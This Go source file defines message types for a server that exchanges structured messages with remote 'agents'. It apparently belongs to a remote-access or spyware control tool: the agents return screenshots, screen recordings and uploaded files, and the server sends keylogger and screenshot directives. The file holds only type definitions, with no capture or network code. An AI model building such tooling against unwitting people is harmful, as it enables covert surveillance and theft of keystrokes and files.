//nolint:revive // types is a common Go package naming convention
package types

// MessageType is the structured message discriminant carried in the "type" key.
type MessageType string

// Structured message types sent by agents.
const (
	MessageTypeRecordingStart MessageType = "screen_recording_start"
	MessageTypeScreenFrame    MessageType = "screen_frame"
	MessageTypeRecordingEnd   MessageType = "screen_recording_end"
	MessageTypeFileTransfer   MessageType = "file_transfer"
	MessageTypeFileChunk      MessageType = "file_chunk"
	MessageTypeScreenshot     MessageType = "screenshot"
)

// File chunk phases carried in the "chunk_type" key of a file_chunk message.
const (
	ChunkTypeStart = "start"
	ChunkTypeData  = "data"
	ChunkTypeEnd   = "end"
)

// Outbound request types sent to agents.
const (
	CommandScreenshot MessageType = "screenshoot"
	CommandKeylogger  MessageType = "keylogger"
)

// Legacy plain-text directives sent to agents.
const (
	DirectiveStartKeylogger = "START_KEYLOGGER"
	DirectiveTakeScreenshot = "TAKE_SCREENSHOT"
)

// Message is a decoded application message.
// The set of variants is closed; consumers switch on the concrete type.
type Message interface {
	message()
}

// TextMessage is a legacy content message that is not a file command.
type TextMessage struct {
	Content string
}

// RecordingStart opens a screen recording session.
type RecordingStart struct {
	Duration int
	FPS      int
	Width    int
	Height   int
}

// ScreenFrame carries one base64-encoded image frame.
type ScreenFrame struct {
	FrameNumber int
	TotalFrames int
	FrameData   string
}

// RecordingEnd closes the active recording session.
type RecordingEnd struct{}

// FileTransfer is a single-shot file upload.
type FileTransfer struct {
	Filename string
	FileData string
}

// FileChunkStart opens a chunked file transfer.
// Legacy is set when the message arrived as FILE_START text.
type FileChunkStart struct {
	Filename    string
	TotalSize   int64
	TotalChunks int
	Legacy      bool
}

// FileChunkData carries one base64-encoded chunk.
type FileChunkData struct {
	ChunkNumber int
	ChunkData   string
	Legacy      bool
}

// FileChunkEnd completes a chunked file transfer.
type FileChunkEnd struct {
	Legacy bool
}

// Screenshot carries a single base64-encoded image.
type Screenshot struct {
	Data string
}

// Unrecognized is a structured message whose type is unknown.
type Unrecognized struct {
	Type string
}

func (TextMessage) message()    {}
func (RecordingStart) message() {}
func (ScreenFrame) message()    {}
func (RecordingEnd) message()   {}
func (FileTransfer) message()   {}
func (FileChunkStart) message() {}
func (FileChunkData) message()  {}
func (FileChunkEnd) message()   {}
func (Screenshot) message()     {}
func (Unrecognized) message()   {}
